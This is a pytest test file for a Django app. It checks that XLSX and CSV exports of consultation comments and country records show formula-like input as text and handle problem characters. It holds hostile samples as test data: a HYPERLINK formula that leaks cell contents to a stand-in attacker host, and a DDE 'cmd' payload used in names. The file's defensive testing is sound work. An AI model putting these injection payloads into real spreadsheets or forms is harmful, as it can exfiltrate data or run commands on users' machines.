"""Exports that are safe to open: what members type is shown as text in Excel and LibreOffice,
never run as a formula, and no character they can paste makes an export fail.

Every file is read back as a spreadsheet would read it: XLSX with openpyxl, CSV with Python's
csv module after the UTF-8 BOM that Excel needs.
"""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from coordination import consultations
from coordination.spreadsheets import cell_text
from pathfinders.models import NationalWorkshop, PathfinderCountry
from tests import factories

pytestmark = pytest.mark.django_db

OPENS = datetime.datetime(2018, 12, 3, 9, 0, tzinfo=datetime.UTC)
CLOSES = datetime.datetime(2018, 12, 17, 23, 59, 59, tzinfo=datetime.UTC)
PAYLOAD = '=HYPERLINK("http://attacker.invalid/?leak="&C2&D2,"see source")'
COMMENTER, COMMENT = 2, 5  # columns of the matrix


@pytest.fixture
def consultation(gcg):
    """Closed since 2018: the exports are read after the window, when nobody can edit."""
    version = factories.DocumentVersionFactory(document__owner_group=gcg, text="One.\n\nTwo.")
    return consultations.consultation_open(
        version=version, audience=gcg, opens_at=OPENS, closes_at=CLOSES
    )


def submit(consultation, text="Fine.", name="A member"):
    author = factories.MembershipFactory(group=consultation.audience, person__full_name=name).person
    return consultations.comment_submit(
        consultation=consultation,
        author=author,
        paragraph="1",
        text=text,
        at=OPENS + datetime.timedelta(days=1),
    )


def xlsx_cells(response):
    """Every cell of the first sheet, row by row, as openpyxl reads the file."""
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [list(row) for row in workbook.active.iter_rows()]


def csv_rows(response):
    assert response.status_code == 200
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads accents right
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def matrix(client, user, consultation):
    client.force_login(user)
    return (
        xlsx_cells(client.get(reverse("matrix_xlsx", args=[consultation.pk]))),
        csv_rows(client.get(reverse("matrix_csv", args=[consultation.pk]))),
    )


def test_a_hyperlink_formula_in_a_comment_is_exported_as_its_text(
    client, secretariat, consultation
):
    submit(consultation, PAYLOAD)
    cells, rows = matrix(client, secretariat, consultation)
    comment = cells[1][COMMENT]
    assert (comment.value, comment.data_type) == (PAYLOAD, "s")
    assert not [cell for row in cells for cell in row if cell.data_type == "f"]
    assert rows[1][COMMENT] == "'" + PAYLOAD


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_a_name_starting_with_a_formula_character_is_text_in_both_exports(
    client, secretariat, consultation, lead
):
    """Names come from the admin and from accounts; comments lose a leading tab or return
    when submitted, names need not."""
    name = f"{lead}2+5+cmd|' /C calc'!A0"
    submit(consultation, name=name)
    cells, rows = matrix(client, secretariat, consultation)
    commenter = cells[1][COMMENTER]
    assert commenter.data_type == "s"
    # openpyxl writes through lxml (installed with python-docx), which keeps a carriage
    # return as &#13; where a raw one would be read back as a line feed.
    assert commenter.value == name
    assert rows[1][COMMENTER] == "'" + name


def test_a_vertical_tab_pasted_from_word_exports_as_a_line_break(client, secretariat, consultation):
    submit(consultation, "Rotation every two years.\x0bOr three.")
    cells, rows = matrix(client, secretariat, consultation)
    assert cells[1][COMMENT].value == "Rotation every two years.\nOr three."
    assert rows[1][COMMENT] == "Rotation every two years.\nOr three."


def test_other_characters_xml_cannot_hold_become_replacement_characters(
    client, secretariat, consultation
):
    submit(consultation, "Bell\x07 and a non-character \ufffe here.")
    cells, rows = matrix(client, secretariat, consultation)
    assert cells[1][COMMENT].value == "Bell\ufffd and a non-character \ufffd here."
    assert rows[1][COMMENT] == "Bell\ufffd and a non-character \ufffd here."


def test_characters_no_database_stores_are_replaced_too():
    """A NUL or a lone surrogate cannot be saved, but an export must not break on one."""
    assert cell_text("5\x008 \ud800.") == "5\ufffd8 \ufffd."
    assert cell_text("Tab\tline\nreturn\r") == "Tab\tline\nreturn\r"


def test_dates_in_the_matrix_stay_dates(client, secretariat, consultation):
    submit(consultation, "-1 to the second paragraph.")
    cells, rows = matrix(client, secretariat, consultation)
    submitted = cells[1][9]
    assert submitted.is_date and submitted.value == datetime.datetime(2018, 12, 4, 10, 0)
    assert rows[1][9] == "2018-12-04 10:00:00"
    assert rows[1][COMMENT] == "'-1 to the second paragraph."


def test_the_board_exports_a_focal_point_named_like_a_formula_as_text(client, secretariat):
    country = PathfinderCountry.objects.create(
        country="PE",
        stage="formal_request",
        request_received_on=datetime.date(2019, 3, 3),
        focal_point=factories.PersonFactory(full_name=PAYLOAD),
    )
    NationalWorkshop.objects.create(
        country=country, status=NationalWorkshop.Status.HELD, starts_on=datetime.date(2019, 5, 14)
    )
    client.force_login(secretariat)

    rows = csv_rows(client.get(reverse("pathfinder_board_csv")))
    assert rows[0][7] == "Focal point"
    assert rows[1][7] == "'" + PAYLOAD
    assert rows[1][5] == "2019-03-03"

    cells = xlsx_cells(client.get(reverse("pathfinder_board_xlsx")))
    focal_point, received, held = cells[1][7], cells[1][5], cells[1][9]
    assert (focal_point.value, focal_point.data_type) == (PAYLOAD, "s")
    assert received.is_date and received.value == datetime.datetime(2019, 3, 3)
    assert (held.value, held.data_type) == (1, "n")
